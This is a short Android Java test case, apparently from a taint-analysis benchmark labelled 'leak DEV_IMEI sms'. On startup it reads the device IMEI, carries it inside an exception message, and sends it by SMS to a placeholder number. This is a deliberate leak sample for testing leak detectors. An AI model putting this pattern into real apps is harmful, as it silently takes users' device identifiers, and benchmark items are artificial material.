// about       The value is in the message of an exception that passes through a method.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  private static void check(String id) {
    if (!id.startsWith("test")) {
      throw new IllegalArgumentException("not for tests: " + id);
    }
  }

  private static void start(String id) {
    check(id);
  }

  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String text = "started";
    try {
      start(phone.getDeviceId());
    } catch (IllegalArgumentException e) {
      // The message holds the id.
      text = e.getMessage();
    }
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
